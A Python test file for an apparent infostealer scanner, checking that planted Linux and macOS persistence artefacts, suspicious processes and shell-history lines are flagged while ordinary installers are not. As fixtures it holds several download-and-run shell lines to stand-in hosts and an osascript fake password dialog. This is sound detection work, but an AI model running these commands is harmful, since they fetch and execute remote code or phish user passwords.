"""Linux and macOS indicators: planted artefacts are found, look-alikes are not."""

from __future__ import annotations

import plistlib

import pytest

from clinicguard.host import ProcessInfo
from clinicguard.i18n import note_text
from clinicguard.infostealer import scoring
from tests.conftest import recorded
from tests.support.infostealer_fixtures import TreeHost, put, rules_hit, scan, zip_bytes

LHOME = "/home/alice"
MHOME = "/Users/alice"


def linux(**parts):  # type: ignore[no-untyped-def]
    parts.setdefault(
        "commands", [{"argv": ["crontab", "-l"], "returncode": 1, "stdout": "", "stderr": "no crontab for alice"}]
    )
    return recorded("linux", **parts)


def mac(**parts):  # type: ignore[no-untyped-def]
    parts.setdefault("user", {"name": "alice", "home": MHOME})
    return recorded("macos", **parts)


# -- Linux --------------------------------------------------------------------
def test_linux_systemd_unit_from_tmp():
    unit = "[Service]\nDescription=cache in /tmp\nExecStart=/tmp/.x/kworker --quiet\n"
    signs = scan(linux(files={f"{LHOME}/.config/systemd/user/kw.service": {"text": unit}}))
    hit = next(h for h in signs.hits if h.rule == "linux_autostart_tmp")
    # the line itself may hold a password: only its number is kept
    assert hit.where.endswith("kw.service") and note_text(hit.detail, "en") == "line 3"
    assert "systemd_user" in signs.looked_at


def test_linux_xdg_autostart_download_exec():
    desktop = '[Desktop Entry]\nType=Application\nExec=sh -c "curl -s http://x.example/i | sh"\n'
    signs = scan(linux(files={f"{LHOME}/.config/autostart/upd.desktop": {"text": desktop}}))
    assert "linux_autostart_download_exec" in rules_hit(signs)


def test_linux_crontab():
    cron = "# m h dom mon dow command\n@reboot /dev/shm/.s/run >/dev/null 2>&1\n0 3 * * * /usr/bin/backup.sh\n"
    host = linux(commands=[{"argv": ["crontab", "-l"], "returncode": 0, "stdout": cron}])
    signs = scan(host)
    assert [note_text(h.detail, "fr") for h in signs.hits] == ["ligne 2"]  # the line itself may hold a password


def test_linux_shell_rc():
    rc = (
        'export PATH="$HOME/.cargo/bin:$PATH"\n. "$HOME/.cargo/env"\nsource ~/.nvm/nvm.sh\nnohup ~/.cache2/.d/agent &\n'
    )
    signs = scan(linux(files={f"{LHOME}/.bashrc": {"text": rc}}))
    assert rules_hit(signs) == {"linux_autostart_download_exec", "linux_autostart_hidden_dir"}


def test_linux_teampcp_pair_needs_both_files():
    one = {f"{LHOME}/.config/systemd/user/sysmon.service": {"text": "ExecStart=python3 %h/.config/sysmon/sysmon.py"}}
    assert "linux_teampcp_pair" not in rules_hit(scan(linux(files=one)))
    both = dict(one, **{f"{LHOME}/.config/sysmon/sysmon.py": {"text": "import os"}})
    signs = scan(linux(files=both))
    assert "linux_teampcp_pair" in rules_hit(signs)
    assert scoring.level(signs.hits) == "red"


def test_linux_processes():
    procs = [
        {"pid": 5, "name": "kdevtmpfsi", "exe": "/tmp/kdevtmpfsi", "cmdline": ["/tmp/kdevtmpfsi"]},
        {"pid": 6, "name": "x", "exe": "/home/alice/.local/share/.x/x", "cmdline": []},
        {"pid": 7, "name": "bash", "exe": "/usr/bin/bash", "cmdline": ["bash"]},
        {"pid": 8, "name": "code", "exe": "/home/alice/.vscode-server/bin/node", "cmdline": []},
        {
            "pid": 9,
            "name": "chrome",
            "exe": "/opt/google/chrome/chrome",
            "cmdline": ["/opt/google/chrome/chrome", "--headless=new", "--remote-debugging-pipe"],
        },
    ]
    signs = scan(linux(processes=procs))
    assert {(h.rule, h.where) for h in signs.hits} == {
        ("unix_process_tmp", "/tmp/kdevtmpfsi"),
        ("browser_headless_debug", "/opt/google/chrome/chrome"),
    }


def test_linux_processes_unreadable_is_core_missing():
    signs = scan(linux(processes={"error": "denied"}))
    assert ("processes", "access_denied") in signs.not_looked_at
    assert "processes" in signs.core_missing


@pytest.mark.parametrize(
    ("line", "rule"),
    [
        ("echo Y3VybCBodHRwOi8vZXZpbA== | base64 -d | bash", "shell_base64_pipe"),
        ("curl -fsSL http://203.0.113.9/install.sh | sudo bash", "shell_curl_raw_ip"),
        ("wget -qO- https://fix-your-audio.example/f.sh | sh", "shell_curl_pipe"),
    ],
)
def test_shell_history_linux(line, rule):
    signs = scan(linux(files={f"{LHOME}/.bash_history": {"text": f"ls\n{line}\n"}}))
    assert rule in rules_hit(signs)
    assert {note_text(h.detail, "en") for h in signs.hits} == {"line 2"}


def test_shell_history_known_installers_ok():
    text = (
        "curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh | bash\n"
        "curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh\n"
        "base64 -d cert.b64 > cert.pem\n"
    )
    assert not scan(linux(files={f"{LHOME}/.zsh_history": {"text": text}})).hits


def test_linux_tree(tmp_path):
    put(tmp_path, "/tmp/.ICE-unix/.x", b"\x7fELF", mode=0o755)
    put(tmp_path, f"{LHOME}/Téléchargements/log/Passwords.txt")
    put(tmp_path, f"{LHOME}/Téléchargements/log/Cookies/c.txt")
    put(tmp_path, f"{LHOME}/.config/user-dirs.dirs", 'XDG_DOWNLOAD_DIR="$HOME/Téléchargements"\n')
    put(tmp_path, f"{LHOME}/.npl", "x")
    signs = scan(TreeHost(tmp_path, "linux"))
    assert {"unix_tmp_executable", "stealer_log", "dev_backdoor_paths"} <= rules_hit(signs)


def test_clean_linux_tree(tmp_path):
    put(tmp_path, f"{LHOME}/Downloads/firefox-130.0.tar.bz2")
    put(tmp_path, f"{LHOME}/Downloads/archive.zip", zip_bytes(["docs/history/2024.txt", "docs/cookies/recipe.txt"]))
    put(tmp_path, f"{LHOME}/Downloads/tool.AppImage", mode=0o755)
    put(tmp_path, "/tmp/build/run.sh", mode=0o755)
    put(tmp_path, f"{LHOME}/.bashrc", '. "$HOME/.cargo/env"\nalias ll="ls -l"\n')
    put(
        tmp_path,
        f"{LHOME}/.config/autostart/nextcloud.desktop",
        "[Desktop Entry]\nExec=/usr/bin/nextcloud --background\n",
    )
    put(tmp_path, f"{LHOME}/.config/systemd/user/syncthing.service", "[Service]\nExecStart=/usr/bin/syncthing serve\n")
    procs = (ProcessInfo(pid=1, name="firefox", exe="/usr/lib/firefox/firefox"),)
    signs = scan(TreeHost(tmp_path, "linux", processes=procs))
    assert signs.hits == ()
    assert signs.scan.hashed >= 2


# -- macOS --------------------------------------------------------------------
def test_mac_amos_paths():
    files = {
        f"{MHOME}/.agent": {"text": ""},
        "/tmp/out.zip": {"text": ""},
        "/Library/LaunchDaemons/com.finder.helper.plist": {"text": ""},
    }
    signs = scan(mac(files=files))
    assert {"mac_amos_backdoor", "mac_amos_staging"} <= rules_hit(signs)


def test_mac_launch_agents():
    fake_apple = plistlib.dumps(
        {"Label": "com.apple.updater", "ProgramArguments": [f"{MHOME}/.helper/run"], "RunAtLoad": True}
    )
    from_tmp = plistlib.dumps({"Label": "com.x.y", "Program": "/Users/Shared/.u/agent"})
    zoom = plistlib.dumps({"Label": "us.zoom.updater", "ProgramArguments": ["/Library/Application Support/zoom.us/x"]})
    import base64

    files = {
        f"{MHOME}/Library/LaunchAgents/com.apple.updater.plist": {"base64": base64.b64encode(fake_apple).decode()},
        "/Library/LaunchAgents/com.x.y.plist": {"base64": base64.b64encode(from_tmp).decode()},
        "/Library/LaunchAgents/us.zoom.updater.plist": {"base64": base64.b64encode(zoom).decode()},
    }
    signs = scan(mac(files=files))
    wheres = {(h.rule, h.where.rsplit("/", 1)[1]) for h in signs.hits}
    assert ("mac_launch_apple_label", "com.apple.updater.plist") in wheres
    assert ("mac_launch_user_path", "com.x.y.plist") in wheres
    assert not any("zoom" in w for _r, w in wheres)


def test_mac_history_fake_dialog():
    line = ': 1732780000:0;osascript -e \'display dialog "Update" default answer "" with hidden answer\''
    signs = scan(mac(files={f"{MHOME}/.zsh_history": {"text": line}}))
    assert "mac_fake_password_dialog" in rules_hit(signs)


def test_mac_tree(tmp_path):
    put(tmp_path, f"{MHOME}/.helper", b"\xcf\xfa\xed\xfe", mode=0o755)
    put(tmp_path, f"{MHOME}/.zshrc", "export X=1", mode=0o755)  # allow-listed name
    put(tmp_path, "/private/tmp/out.zip", zip_bytes(["Sysinfo.txt"]))
    put(tmp_path, f"{MHOME}/Downloads/Photoshop_crack.dmg")
    signs = scan(TreeHost(tmp_path, "macos"))
    hits = rules_hit(signs)
    assert {"mac_hidden_exec_home", "mac_amos_backdoor", "mac_amos_staging", "crack_download"} <= hits
    assert not any(h.where.endswith(".zshrc") for h in signs.hits)


def test_a_line_feed_in_a_file_name_does_not_hide_it_from_the_name_rules(tmp_path):
    # A file name may hold any byte but "/" and NUL: "crack\n<anything>.exe" must still match
    # '(crack|...).*\.exe$' (a plain "." stops at the line feed).
    put(tmp_path, f"{LHOME}/Downloads/crack\nFAKE LINE.exe", b"MZ")
    assert "crack_download" in rules_hit(scan(TreeHost(tmp_path, "linux")))
